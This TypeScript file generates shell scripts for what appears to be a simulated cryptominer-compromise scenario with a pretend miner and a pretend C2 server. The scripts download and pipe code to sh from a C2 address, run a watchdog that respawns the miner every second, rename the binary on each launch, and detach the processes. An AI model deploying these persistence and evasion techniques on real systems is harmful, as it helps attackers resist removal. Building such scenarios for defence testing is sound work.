import { C2 } from '../places.ts';
import { type MinerNames, minerArguments, minerScript } from './miner-script.ts';
import { REFUSAL } from './refusal.ts';

/** Names that the watchdog scenario chooses besides its miner's. */
export interface WatchdogNames extends MinerNames {
  /** A copy of bash, in the miner's folder. */
  readonly guard: string;
  /** What the guard runs. */
  readonly guardScript: string;
  /** Starts the guard again; called by the miner. */
  readonly guardStarter: string;
}

/** The pretend miner that looks after its guard, once a second. */
export function guardedMinerScript(names: WatchdogNames): string {
  return minerScript({
    eachTurn: `
  ((SECONDS == looked)) || { looked=$SECONDS; ${names.guardStarter} 9>&- > /dev/null 2>&1; }`,
  });
}

/** The guard: nothing but a loop that starts the miner once it is gone, and an end after 30 minutes. */
export function guardScript(names: WatchdogNames): string {
  return `${REFUSAL}
trap '' PIPE HUP
ends=$((SECONDS + 1800))
exec {idle}<> <(:) && wait $! 2> /dev/null
while ((SECONDS < ends)); do
  ${names.starter} guard 8>&- > /dev/null 2>&1
  read -r -t 1 -u "$idle" line
done
`;
}

/** What the entries and the guard call: `starter BY`. Each time the miner has another name. */
export function renamingStarter(names: WatchdogNames): string {
  return `#!/bin/sh
${REFUSAL}
d=${names.folder}
if [ ! -x $d/${names.program} ] || [ ! -r $d/${names.script} ]; then
  { curl -fsSL -m 20 http://${C2.address}/${names.download} || wget -q -T 20 -O- http://${C2.address}/${names.download}; } 2> /dev/null | sh -s "\${1-starter}"
fi
exec 9>> $d/.lock
flock -n 9 || exit 0
${renamed('m', names.program)}
STARTED_BY=\${1-starter} setsid nice -n 19 $d/$n ${minerArguments(names).join(' ')} < /dev/null > /dev/null 2>&1 &
`;
}

/** What the miner calls: starts the guard under another name, unless one is there. */
export function guardStarter(names: WatchdogNames): string {
  return `#!/bin/sh
${REFUSAL}
d=${names.folder}
exec 8>> $d/.guard
flock -n 8 || exit 0
${renamed('g', names.guard)}
setsid $d/$n ${names.guardScript} < /dev/null > /dev/null 2>&1 &
`;
}

function renamed(letter: string, program: string): string {
  return `n=${letter}$$
cp $d/${program} $d/$n || exit 1`;
}

/** What the pretend C2 server serves here: puts the miner back; the starter then starts it. */
export function watchdogInstaller(names: WatchdogNames): string {
  return `${REFUSAL}
d=${names.folder}
mkdir -p $d 2> /dev/null && chmod 777 $d 2> /dev/null
[ -x $d/${names.program} ] || cp /bin/bash $d/${names.program}
cat > $d/${names.script} << 'END_OF_MINER'
${guardedMinerScript(names)}END_OF_MINER
`;
}
